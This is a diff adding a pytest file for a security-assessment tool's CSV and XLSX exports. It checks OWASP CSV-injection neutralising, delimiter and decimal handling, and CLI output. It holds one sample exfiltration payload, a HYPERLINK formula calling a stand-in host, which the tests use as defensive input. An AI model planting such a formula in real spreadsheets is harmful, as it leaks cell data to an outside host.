@@ -1,0 +1,130 @@
+"""Spreadsheet exports: OWASP CSV-injection neutralising, the delimiter with matching decimals, one plan
+layout for `export --format csv` and `plan --csv`, and the XLSX read back with openpyxl."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import subprocess
+import sys
+
+import openpyxl
+import pytest
+
+from posture.assessment import save_assessment
+from posture.i18n import tr
+from posture.report import export_csv, export_xlsx, load
+from posture.report._sheets import STATUSES, neutralise, plan_table, to_csv
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
+STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def _posture(*args: str, lang: str = "es") -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "posture", "--lang", lang, *args], capture_output=True,
+                          timeout=120)
+
+
+def _rows(raw: bytes, delimiter: str = ",") -> list[list[str]]:
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+@pytest.fixture(scope="module")
+def evil(demo_loaded, tmp_path_factory):
+    """The demo with hostile text where a checklist author or a probe check could put it: remediation texts."""
+    a = demo_loaded.assessment
+    folder = tmp_path_factory.mktemp("evil")
+    path = save_assessment(a, folder / "assessment.yaml")
+    loaded = load(path)
+    items = []
+    for n, item in enumerate(loaded.plan.items):
+        text = STARTS[n % len(STARTS)] if n < len(STARTS) else EVIL
+        items.append(dataclasses.replace(item, action={"es": text, "en": text}))
+    return dataclasses.replace(loaded, plan=dataclasses.replace(loaded.plan, items=items))
+
+
+def test_neutralise_follows_owasp():
+    for start in STARTS:
+        assert neutralise(start) == "'" + start
+    assert neutralise(EVIL) == "'" + EVIL
+    for safe in ("Plan", "1+2", " =1", "", "ñandú=", "x-1"):
+        assert neutralise(safe) == safe
+    assert neutralise(-1.5) == -1.5  # numbers posture computes stay numbers
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_csv_cells_never_start_a_formula(evil, delimiter):
+    rows = _rows(export_csv(evil, "es", delimiter), delimiter)
+    actions = [r[5] for r in rows[1:]]
+    assert actions[: len(STARTS)] == ["'" + s for s in STARTS]
+    assert all(a == "'" + EVIL for a in actions[len(STARTS):])
+    dangerous = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+
+
+def test_delimiter_brings_matching_decimals(demo_loaded):
+    head, rows = plan_table(demo_loaded.plan, demo_loaded.assessment.frameworks, "es")
+    gain_col = next(i for i, h in enumerate(head) if h.startswith("Ganancia"))
+    rows = [[*r[:gain_col], 12.5, *r[gain_col + 1:]] for r in rows]
+    comma = _rows(to_csv(head, rows, ","), ",")
+    semi = _rows(to_csv(head, rows, ";"), ";")
+    assert len(comma[0]) == len(semi[0]) == len(head)  # each row splits into its columns
+    assert comma[1][gain_col] == "12.5" and semi[1][gain_col] == "12,5"
+    assert semi[1][2] == str(demo_loaded.plan.items[0].risk)  # integers have no decimals to change
+    assert b";" in to_csv(head, rows, ";").splitlines()[0]
+
+
+def test_one_plan_layout_for_both_commands(demo_loaded):
+    path = str(demo_loaded.assessment.path)
+    for lang in ("es", "en"):
+        exported = _posture("export", path, "--format", "csv", "--lang", lang, lang=lang)
+        planned = _posture("plan", path, "--csv", lang=lang)
+        assert exported.returncode == 0 and planned.returncode == 0, planned.stderr
+        assert exported.stdout == planned.stdout
+    es = _rows(_posture("plan", path, "--csv", "--delimiter", ";", lang="es").stdout, ";")
+    assert es[0][:3] == ["Id de acción", "Prioridad", "Riesgo (1–25)"]
+    assert {"Estado", "Comentarios", "Responsable", "Fecha límite"} <= set(es[0])
+    status, effort = es[0].index("Estado"), es[0].index("Esfuerzo")
+    assert {r[status] for r in es[1:]} == {"Abierta"}
+    assert {r[effort] for r in es[1:]} <= {"Bajo", "Medio", "Alto"}
+    assert [r[0] for r in es[1:]] == [i.id for i in demo_loaded.plan.items]  # stable action ids
+    en = _rows(_posture("plan", path, "--csv", lang="en").stdout)
+    assert en[0][0] == "Action id" and {r[en[0].index("Effort")] for r in en[1:]} <= {"Low", "Medium", "High"}
+
+
+@pytest.mark.parametrize("lang", ["es", "en"])
+def test_xlsx_reads_back_with_openpyxl(evil, lang, tmp_path):
+    path = tmp_path / "plan.xlsx"
+    path.write_bytes(export_xlsx(evil, lang))
+    book = openpyxl.load_workbook(path)
+    plan, scores = book.worksheets
+    head = [c.value for c in plan[1]]
+    assert plan.freeze_panes == "A2" and scores.freeze_panes == "A2"
+    assert plan.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(head))}{len(evil.plan.items) + 1}"
+    assert plan.max_row == len(evil.plan.items) + 1
+    status_col = openpyxl.utils.get_column_letter(head.index(tr({"es": "Estado", "en": "Status"}, lang)) + 1)
+    (dv,) = plan.data_validations.dataValidation
+    assert dv.type == "list" and f"{status_col}2:{status_col}{plan.max_row}" in str(dv.sqref)
+    assert dv.formula1.strip('"').split(",") == [tr(s, lang) for s in STATUSES.values()]
+    # hostile text stays text: a string cell, never a formula
+    action = plan.cell(row=len(STARTS) + 2, column=head.index(tr({"es": "Acción", "en": "Action"}, lang)) + 1)
+    assert action.value == EVIL and action.data_type == "s"
+    due = plan.cell(row=2, column=head.index(tr({"es": "Fecha límite", "en": "Due date"}, lang)) + 1)
+    assert due.is_date and due.value.date().isoformat() == evil.plan.items[0].due
+    risk = plan.cell(row=2, column=3)
+    assert risk.value == evil.plan.items[0].risk and risk.data_type == "n"
+    rows = list(scores.iter_rows(min_row=2, values_only=True))
+    pci = next(r for r in rows if r[1] == "PCI DSS")
+    card = evil.scorecard.frameworks["pci-dss-4.0.1"]
+    assert pci[2] == round(card.claimed, 1) and pci[5] == round(card.uncapped, 1) and pci[4].startswith("D")
+    assert len(rows) == 1 + len(evil.scorecard.frameworks) + len(evil.scorecard.sections)
+
+
+def test_xlsx_from_the_cli_needs_an_output(demo_loaded, tmp_path):
+    path = str(demo_loaded.assessment.path)
+    done = _posture("export", path, "--format", "xlsx")
+    assert done.returncode == 1 and b"-o" in done.stderr
+    done = _posture("export", path, "--format", "xlsx", "-o", str(tmp_path / "p.xlsx"))
+    assert done.returncode == 0 and openpyxl.load_workbook(tmp_path / "p.xlsx").sheetnames[0] == "Plan de remediación"
